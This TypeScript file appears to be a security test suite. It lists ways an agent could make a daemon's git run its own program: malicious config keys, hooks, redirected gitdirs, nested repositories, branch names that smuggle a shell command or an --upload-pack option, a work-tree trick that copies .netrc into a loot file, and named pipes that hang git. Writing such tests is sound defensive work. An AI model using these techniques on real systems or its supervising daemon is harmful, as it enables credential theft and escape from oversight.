/** What an agent configures, hooks, links and nests so that the daemon's git runs a program of its. */

import { type Attempt, attempt } from "./attempt.ts";

/** All in one configuration file: they do not disturb one another. */
const KEYS: readonly Attempt[] = (
  [
    ["fsmonitor", 'git config core.fsmonitor "$E"', "git status"],
    ["ssh-command", 'git config core.sshCommand "$E"', "git fetch ssh://nowhere.invalid/x"],
    ["git-proxy", 'git config core.gitProxy "$E"', "git fetch git://nowhere.invalid/x"],
    ["ask-pass", 'git config core.askPass "$E"', askCredential()],
    ["credential-helper", 'git config credential.helper "!$E"', askCredential()],
    [
      "editor",
      'git config core.editor "$E"',
      "git commit -q --allow-empty -m x; git commit -q --amend --allow-empty",
    ],
    ["diff-external", 'git config diff.external "$E"', "echo more >> README.md; git diff"],
    [
      "gpg-program",
      'git config commit.gpgsign true; git config gpg.program "$E"',
      "git commit -q --allow-empty -m x",
    ],
    [
      "gpg-ssh-program",
      'git config gpg.ssh.program "$E"; git config user.signingkey "key::x"',
      "git -c gpg.format=ssh commit -q -S --allow-empty -m x",
    ],
    ["alternate-refs", 'git config core.alternateRefsCommand "$E"', "git push -q . HEAD:refs/heads/pushed"],
    ["trailer-command", 'git config trailer.x.command "$E"', "echo x | git interpret-trailers --trailer x=1"],
    [
      "upload-pack",
      'git config remote.origin.url "$R"; git config remote.origin.uploadpack "$E"',
      "git fetch origin",
    ],
    [
      "receive-pack",
      'git config remote.origin.url "$R"; git config remote.origin.receivepack "$E"',
      "git push origin HEAD:refs/heads/x",
    ],
    [
      "instead-of",
      'git config "url.ext::$E %S.insteadOf" "$R"; git config protocol.ext.allow always',
      'git fetch "$R"',
    ],
    [
      "submodule-update",
      submodule('git config submodule.s.update "!$E"; git config submodule.s.url "$M"'),
      "git submodule update --init",
    ],
    [
      "clean-filter",
      'git config filter.a.clean "$E"; echo "*.a filter=a" >> .git/info/attributes',
      "echo a > x.a; git add x.a",
    ],
    [
      "filter-process",
      'git config filter.b.process "$E"; echo "*.b filter=b" >> .gitattributes',
      "echo b > x.b; git add x.b",
    ],
    [
      "textconv",
      'git config diff.c.textconv "$E"; echo "*.c diff=c" >> .gitattributes',
      "echo c > x.c; git add -f x.c; git --no-pager diff --cached --textconv -- x.c",
    ],
    [
      "merge-driver",
      'git config merge.d.driver "$E %A"; echo "*.d merge=d" >> .gitattributes',
      [
        "g() { git -c commit.gpgsign=false -c core.fsmonitor=false $@; }",
        "g checkout -q -b other; echo 1 > x.d; g add x.d; g commit -q -m 1",
        "g checkout -q -b ours HEAD~1; echo 2 > x.d; g add x.d; g commit -q -m 2; g merge -q other",
      ].join("\n"),
    ],
  ] as const
).map(([name, does, unwary]) => attempt(name, does, unwary, { run: "configuration" }));

function askCredential(): string {
  return "printf 'protocol=https\\nhost=nowhere.invalid\\n\\n' | git credential fill";
}

function submodule(then: string): string {
  return [
    "git init -q sub; for n in 1 2; do git -C sub -c user.name=A -c user.email=a commit -q --allow-empty -m $n; done",
    'printf "[submodule \\"s\\"]\\n\\tpath = sub\\n\\turl = %s\\n" "$M" > .gitmodules',
    'git update-index --add --cacheinfo "160000,$(git -C sub rev-parse HEAD~1),sub"',
    then,
  ].join("; ");
}

const HOOKS =
  "pre-commit prepare-commit-msg commit-msg post-commit pre-push reference-transaction post-checkout post-index-change pre-auto-gc update pre-receive post-receive fsmonitor-watchman";
const COMMIT = "git add -A; git commit -q -m x";
const BAD = '"[core]\\n\\tfsmonitor = $E\\n"';

export const GIT_ATTEMPTS: readonly Attempt[] = [
  ...KEYS,
  attempt("hooks", `mkdir -p .git/hooks; for h in ${HOOKS}; do cp "$E" .git/hooks/$h; done`, COMMIT),
  attempt(
    "hooks-path",
    `mkdir hk; for h in ${HOOKS}; do cp "$E" hk/$h; done; git config core.hooksPath "$PWD/hk"`,
    COMMIT,
  ),
  attempt("include", `printf ${BAD} > .inc; git config include.path "$PWD/.inc"`, "git status"),
  attempt(
    "include-if",
    `printf ${BAD} > .inc; git config "includeIf.gitdir:/.path" "$PWD/.inc"`,
    "git status",
  ),
  attempt(
    "attributes-file",
    'git config filter.x.clean "$E"; echo "* filter=x" > .at; git config core.attributesFile "$PWD/.at"',
    COMMIT,
  ),
  attempt(
    "config-worktree",
    'git config extensions.worktreeConfig true; git config -f .git/config.worktree core.fsmonitor "$E"',
    "git status",
  ),
  attempt(
    "commondir",
    'cp -r .git .c; git config -f .c/config core.fsmonitor "$E"; echo "$PWD/.c" > .git/commondir',
    "git status",
  ),
  attempt(
    "gitdir-elsewhere",
    'mv .git .real; git config -f .real/config core.fsmonitor "$E"; echo "gitdir: $PWD/.real" > .git',
    "git status",
  ),
  attempt(
    "gitdir-of-an-older-version",
    'mkdir -p x/mirrors/y/worktrees; mv .git x/mirrors/y/worktrees/own; git config -f x/mirrors/y/worktrees/own/config core.fsmonitor "$E"; echo "gitdir: $PWD/x/mirrors/y/worktrees/own" > .git',
    "git status",
  ),
  attempt(
    "gitdir-as-a-link",
    'mv .git .real; git config -f .real/config core.fsmonitor "$E"; ln -s .real .git',
    "git status",
  ),
  attempt(
    "nested-repository",
    'git init -q sub; echo n > sub/n; git -C sub add n; git -C sub -c user.name=A -c user.email=a commit -q -m n; git -C sub config core.fsmonitor "$E"; git -C sub config filter.x.clean "$E"; echo "* filter=x" > sub/.gitattributes',
    "git add -A; git status",
  ),
  attempt(
    "worktree-of-its-own",
    'git worktree add -q wt -b wt; echo w > wt/w; git -C wt config core.fsmonitor "$E"',
    "git -C wt status",
  ),
  attempt(
    "bare-repository-in-the-tree",
    'git init -q --bare inner; git -C inner config core.fsmonitor "$E"; git -C inner config core.bare false; git -C inner config core.worktree ..',
    "cd inner && git -c safe.bareRepository=all status",
  ),
  attempt(
    "branch-that-is-a-command",
    'git checkout -q -b "x;$E;y" && git -c user.name=A -c user.email=a commit -q --allow-empty -m x && git checkout -q -',
    'for b in $(git branch --format="%(refname:short)"); do sh -c "echo $b"; done',
  ),
  attempt(
    "branch-that-is-an-option",
    'echo "$(git rev-parse HEAD)" > ".git/refs/heads/--upload-pack=$(basename "$E")"; ls .git/refs/heads/--*',
    'PATH="$(dirname "$E"):$PATH"; for b in .git/refs/heads/--*; do git fetch "$(basename "$b")" "$M"; done',
  ),
  attempt(
    "work-tree-elsewhere",
    'git config core.worktree "$H"',
    'git add -f "$H/.netrc"; git show :.netrc > "$LOOT"',
  ),
  attempt(
    "repository-with-pipes",
    "for f in HEAD index config packed-refs; do rm -f .git/$f; mkfifo .git/$f; done",
    waits("git status"),
  ),
  attempt(
    "pipe-as-alternates",
    "rm .git/objects/info/alternates; mkfifo .git/objects/info/alternates",
    waits("git log"),
  ),
  attempt(
    "pipe-as-branch",
    "mkfifo .git/refs/heads/pipe",
    waits("git branch --list pipe --format='%(objectname)'"),
  ),
  attempt("pipe-as-repository", "rm -rf .git; mkfifo .git", waits("cat .git")),
  attempt(
    "link-to-nothing-that-ends-as-head",
    "rm .git/HEAD .git/packed-refs; ln -s /dev/zero .git/packed-refs; ln -s /dev/zero .git/HEAD",
    waits("cat .git/HEAD"),
  ),
  // Others come to feel these two as well, so that they are the last.
  attempt(
    "home",
    `printf "[core]\\n\\tfsmonitor = $E\\n\\thooksPath = $HOME/hk\\n\\tsshCommand = $E\\n[credential]\\n\\thelper = !$E\\n[uploadpack]\\n\\tpackObjectsHook = $E\\n" > "$HOME/.gitconfig"; mkdir -p "$HOME/hk" "$HOME/.config/git"; for h in ${HOOKS}; do cp "$E" "$HOME/hk/$h"; done; cp "$HOME/.gitconfig" "$HOME/.config/git/config"`,
    "git status",
  ),
  attempt(
    "repository-of-the-daemon",
    `git config -f "$M/config" core.fsmonitor "$E"; git config -f "$M/config" core.hooksPath "$M/hk"; git config -f "$M/config" credential.helper "!$E"; mkdir -p "$M/hk" "$M/hooks"; for h in ${HOOKS}; do cp "$E" "$M/hk/$h"; cp "$E" "$M/hooks/$h"; done`,
    'git push -q "$M" HEAD:refs/heads/pushed',
  ),
];

/** Marks what somebody would wait for in vain. */
function waits(command: string): string {
  return `timeout 1 ${command} > /dev/null; [ $? -eq 124 ] && "$E"`;
}
